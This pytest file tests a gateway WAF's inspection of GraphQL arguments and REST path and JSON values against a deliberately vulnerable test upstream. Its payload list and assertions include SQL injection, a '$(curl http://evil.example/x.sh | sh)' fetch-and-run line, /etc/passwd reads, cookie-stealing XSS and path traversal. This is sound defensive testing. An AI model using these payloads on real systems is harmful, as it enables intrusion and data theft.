"""The WAF inspects API inputs, not syntax (issue 17): GraphQL argument values and variables
(never the query text), REST path parameters, nested JSON body values. Through a real gateway in
front of a vulnerable GraphQL upstream (tests/graphql_pastes_app.py: its resolvers run SQL, a
shell and HTTP), with the configuration a user writes: the WAF at paranoia 1 and the GraphQL
guard on /graphql, route templates for the REST side.

The false-positive table (the realistic GraphQL set and a REST set: refusals 0) and the attack
table (each refused; with the WAF in detect mode, the same payloads really work upstream) are
written to test-artifacts/waf-api-inputs.json."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import graphql_pastes_app
import pytest
from helpers import ThreadedUvicorn, raw_request, run_gateway
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from waf_api_corpus import (
    BATCH,
    CRS_PROSE_FALSE_POSITIVES,
    GRAPHQL_ATTACKS,
    GRAPHQL_BENIGN,
    OPERATION_NAMES,
    REST_ATTACKS,
    REST_BENIGN,
)

ARTIFACTS = Path(os.environ.get("BASTION_ARTIFACTS", Path(__file__).resolve().parents[2] / "test-artifacts"))
RESULTS: dict[str, list[dict[str, Any]]] = {}
REST_TEMPLATES = ["/users/v1/{username}", "/books/v1/{title}", "/api/orders/{id}", "/api/files/{name}"]


SPEC = """
openapi: 3.0.3
info: {title: users, version: "1"}
servers: [{url: /oa}]
paths:
  /users/v1/{username}:
    get:
      security: []
      parameters: [{name: username, in: path, required: true, schema: {type: string}}]
      responses: {"200": {description: a user}}
"""


def _config(upstream: str, tmp: Path, mode: str) -> dict[str, Any]:
    (tmp / "users.yaml").write_text(SPEC)
    routes: list[dict[str, Any]] = [
        {"openapi": str(tmp / "users.yaml"), "upstream": "up"},
        {"path": "/graphql", "upstream": "up", "policies": {"graphql": {}}},
        *({"path": t, "upstream": "up"} for t in REST_TEMPLATES),
        {"path": "/api/reports/{day}/summary", "upstream": "up"},
        {"path": "/text/graphql", "upstream": "up", "policies": {"waf": {"graphql": "off"}}},
        {"path": "/gql", "name": "api", "upstream": "up", "policies": {"waf": {"graphql": "on"}}},
        {"path": "/rest/*", "upstream": "up"},
    ]
    return {
        "upstreams": {"up": {"urls": [upstream]}},
        "policies": {
            "audit": {"output": str(tmp / f"audit-{mode}.log")},
            "waf": {"mode": mode},
            "rate_limit": {"enabled": False},
        },
        "routes": routes,
    }


@pytest.fixture(scope="module")
def gateways(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("waf-api")
    with ThreadedUvicorn(graphql_pastes_app.app) as up:
        with (
            run_gateway(_config(up.url, tmp, "block"), tmp) as block,
            run_gateway(_config(up.url, tmp, "detect"), tmp) as detect,
        ):
            yield block, detect
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / "waf-api-inputs.json").write_text(json.dumps(RESULTS, indent=2))


BASE = [("Host", "api.example.com"), ("User-Agent", "Mozilla/5.0 (tests)"), ("Accept", "application/json")]


def graphql_request(port: int, query: str, variables: dict | None, transport: str, name: str = ""):
    op: dict[str, Any] = {"query": query}
    if variables is not None:
        op["variables"] = variables
    if name in OPERATION_NAMES:
        op["operationName"] = OPERATION_NAMES[name]
    if transport == "get":
        params = {"query": query, **({"variables": json.dumps(variables)} if variables is not None else {})}
        return raw_request(port, "GET", "/graphql?" + urlencode(params, quote_via=quote), BASE, None)
    if transport == "graphql":
        return raw_request(port, "POST", "/graphql", [*BASE, ("Content-Type", "application/graphql")], query.encode())
    if transport == "form":
        body = urlencode(op | ({"variables": json.dumps(variables)} if variables else {}), quote_via=quote)
        ct = ("Content-Type", "application/x-www-form-urlencoded")
        return raw_request(port, "POST", "/graphql", [*BASE, ct], body.encode())
    doc: Any = op
    if transport == "batch":
        doc = BATCH if not query or name == "batch" else [BATCH[0], op]
    return raw_request(
        port, "POST", "/graphql", [*BASE, ("Content-Type", "application/json")], json.dumps(doc).encode()
    )


def _row(table: str, name: str, transport: str, r) -> dict[str, Any]:
    rules: list[int] = []
    if r.status in (400, 403):
        try:
            rules = r.json().get("rules", [])
        except ValueError:
            pass
    row = {"name": name, "transport": transport, "status": r.status, "rules": rules}
    RESULTS.setdefault(table, []).append(row)
    return row


def test_the_realistic_graphql_set_is_large_enough():
    assert len(GRAPHQL_BENIGN) >= 50
    assert len({name for name, *_ in GRAPHQL_BENIGN}) == len(GRAPHQL_BENIGN)


def test_graphql_false_positives_are_zero_at_paranoia_1(gateways):
    block, _ = gateways
    refused = []
    for name, query, variables, transport in GRAPHQL_BENIGN:
        r = graphql_request(block.port, query, variables, "json" if transport == "json-b" else transport, name)
        row = _row("graphql_benign", name, transport, r)
        body = r.json()
        results = body if isinstance(body, list) else [body]
        # the operation ran: no WAF refusal, no guard refusal, no GraphQL error from the upstream
        if r.status != 200 or any(res.get("errors") for res in results):
            refused.append((row, r.body[:200]))
    assert not refused, refused


def test_rest_false_positives_are_zero_at_paranoia_1(gateways):
    block, _ = gateways
    refused = []
    for name, method, target, ctype, body in REST_BENIGN:
        headers = [*BASE, *([("Content-Type", ctype)] if ctype else [])]
        r = raw_request(block.port, method, target, headers, body)
        row = _row("rest_benign", name, method, r)
        if r.status != 200:
            refused.append((row, r.body[:200]))
    assert not refused, refused


@pytest.mark.parametrize(
    "name,cls,query,variables,transport,oracle", GRAPHQL_ATTACKS, ids=[a[0] for a in GRAPHQL_ATTACKS]
)
def test_graphql_attacks_in_arguments_are_refused(gateways, name, cls, query, variables, transport, oracle):
    block, detect = gateways
    r = graphql_request(block.port, query, variables, transport, name)
    row = _row("graphql_attacks", f"{cls}: {name}", transport, r)
    assert r.status == 403 and r.json()["type"].endswith("waf-blocked"), (row, r.body[:300])
    # the same request with the WAF only detecting reaches the upstream, and the attack works
    d = graphql_request(detect.port, query, variables, transport, name)
    assert d.status == 200 and oracle in d.body.decode(errors="replace"), (name, d.body[:300])


@pytest.mark.parametrize("name,cls,method,target,ctype,body", REST_ATTACKS, ids=[a[0] for a in REST_ATTACKS])
def test_rest_attacks_in_path_parameters_and_nested_json_are_refused(gateways, name, cls, method, target, ctype, body):
    block, detect = gateways
    headers = [*BASE, *([("Content-Type", ctype)] if ctype else [])]
    r = raw_request(block.port, method, target, headers, body)
    row = _row("rest_attacks", f"{cls}: {name}", method, r)
    assert r.status == 403, (row, r.body[:300])
    assert raw_request(detect.port, method, target, headers, body).status == 200  # routed: only the WAF refused


def test_path_parameter_is_refused_where_the_same_value_in_the_query_is(gateways):
    """Issue 17's example: the value in a path segment is judged as it is in the query string."""
    block, _ = gateways
    value = quote("x' or '1'='1", safe="")
    assert raw_request(block.port, "GET", f"/users/v1/alice?name={value}", BASE, None).status == 403
    assert raw_request(block.port, "GET", f"/users/v1/{value}", BASE, None).status == 403
    # a parameter of an OpenAPI path (the spec's paths become route templates)
    assert raw_request(block.port, "GET", f"/oa/users/v1/{value}", BASE, None).status == 403
    assert raw_request(block.port, "GET", "/oa/users/v1/alice", BASE, None).status == 200


@pytest.mark.parametrize("text", CRS_PROSE_FALSE_POSITIVES)
def test_graphql_values_are_judged_as_rest_values(gateways, text):
    """CRS's own false positives on prose are the same in a GraphQL variable and a REST JSON
    body (documented in docs/waf.md with the tuning): the GraphQL path adds none and hides none."""
    block, _ = gateways
    rest = raw_request(
        block.port,
        "POST",
        "/api/orders/1",
        [*BASE, ("Content-Type", "application/json")],
        json.dumps({"b": text}).encode(),
    )
    gql = graphql_request(
        block.port, "mutation($b: String!) { addComment(subjectId: 1, body: $b) { id } }", {"b": text}, "json"
    )
    _row("crs_prose_false_positives", text[:40], "json", gql)
    assert rest.status == gql.status == 403
    assert rest.json()["rules"] == gql.json()["rules"]


def test_with_argument_inspection_off_the_query_text_is_refused(gateways):
    """What users met before (issue 17): the query text inspected as a value trips CRS 932100 at
    paranoia 1 on the simplest query. `graphql: off` keeps that behaviour; the default does not."""
    block, _ = gateways
    ct = [*BASE, ("Content-Type", "application/json")]
    body = json.dumps({"query": "{ pastes { id title } }"}).encode()
    off = raw_request(block.port, "POST", "/text/graphql", ct, body)
    assert off.status == 403 and 932100 in off.json()["rules"]
    assert raw_request(block.port, "POST", "/graphql", ct, body).status == 200


def test_variables_sent_as_json_text_are_inspected_decoded(gateways):
    block, _ = gateways
    body = {
        "query": "query($f: String) { pastes(filter: $f) { id } }",
        "variables": '{"f": "\\u0027 OR \\u00271\\u0027=\\u00271"}',
    }
    ct = [*BASE, ("Content-Type", "application/json")]
    # the guard refuses variables that are not an object (400); on a route without the guard
    # (/gql) a server that accepts them as text gets them inspected decoded
    assert raw_request(block.port, "POST", "/graphql", ct, json.dumps(body).encode()).status == 400
    r = raw_request(block.port, "POST", "/gql", ct, json.dumps(body).encode())
    assert r.status == 403, r.body[:200]


def test_graphql_reading_is_chosen_by_the_route_not_by_the_client(gateways):
    """`auto` reads GraphQL on routes whose name (default: path pattern) says graphql; a client
    writing "graphql" into a REST path parameter does not get its `query` member read as GraphQL
    (valid GraphQL can spell `{ union select password from users }`)."""
    block, _ = gateways
    ct = [*BASE, ("Content-Type", "application/json")]
    sqli = json.dumps({"query": "{ union select password from users }"}).encode()
    assert raw_request(block.port, "POST", "/api/orders/graphql", ct, sqli).status == 403
    assert raw_request(block.port, "POST", "/rest/graphql", ct, sqli).status == 403
    plain = json.dumps({"query": "{ pastes { id title } }"}).encode()
    assert raw_request(block.port, "POST", "/gql", ct, plain).status == 200  # graphql: on, route named "api"
    assert raw_request(block.port, "POST", "/gql", ct, sqli).status == 200  # its arguments are inspected, not its text


def test_a_graphql_route_still_inspects_other_bodies(gateways):
    """A multipart or XML body on a GraphQL route is not GraphQL: inspected as any other body."""
    block, _ = gateways
    xml = b"<q>1' OR '1'='1' --</q>"
    r = raw_request(block.port, "POST", "/gql", [*BASE, ("Content-Type", "application/xml")], xml)
    assert r.status == 403, r.body[:200]


def test_unparsable_graphql_is_inspected_as_text_or_refused(gateways):
    """A document the parser cannot read is not passed blind: the guard refuses it (400) before
    the WAF; with the WAF alone it is inspected as text (docs/waf.md)."""
    block, detect = gateways
    bad = '{ pastes(filter: "x") { id } ; cat /etc/passwd'
    r = graphql_request(block.port, bad, None, "json")
    assert r.status == 400 and r.json()["errors"][0]["extensions"]["code"] == "GRAPHQL_PARSE_FAILED", r.body[:200]
    ct = [*BASE, ("Content-Type", "application/json")]
    r = raw_request(block.port, "POST", "/gql", ct, json.dumps({"query": bad}).encode())  # no guard here
    assert r.status == 403 and 932100 in r.json()["rules"], r.body[:200]


_payloads = st.sampled_from(
    [
        "' OR '1'='1' --",
        "1 UNION SELECT username, password FROM users",
        "; cat /etc/passwd",
        "$(curl http://evil.example/x.sh | sh)",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
    ]
)
_where = st.sampled_from(["literal", "variable", "nested-variable", "input-literal", "fragment", "alias"])


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(payload=_payloads, where=_where, transport=st.sampled_from(["json", "get", "form", "batch"]))
def test_a_payload_anywhere_in_the_arguments_is_refused(gateways, payload, where, transport):
    """Invariant: wherever an attack string sits in an operation's arguments (a literal, a
    variable, an input object's member, a fragment, behind an alias) and however the operation
    is sent, the WAF refuses it."""
    block, _ = gateways
    lit = json.dumps(payload)
    variables = None
    if where == "literal":
        query = f"{{ pastes(filter: {lit}) {{ id }} }}"
    elif where == "variable":
        query, variables = "query($f: String) { pastes(filter: $f) { id } }", {"f": payload}
    elif where == "nested-variable":
        query, variables = "query($f: PasteFilter) { searchPastes(filter: $f) { id } }", {"f": {"title": payload}}
    elif where == "input-literal":
        query = f"{{ searchPastes(filter: {{title: {lit}, public: true}}) {{ id }} }}"
    elif where == "fragment":
        query = f"query {{ ...F }} fragment F on Query {{ pastes(filter: {lit}) {{ id }} }}"
    else:
        query = f"{{ safe: pastes {{ id }} other: pastes(filter: {lit}) {{ id }} }}"
    if transport == "form" and variables is not None:
        transport = "json"
    r = graphql_request(block.port, query, variables, transport)
    assert r.status == 403, (payload, where, transport, r.status, r.body[:200])
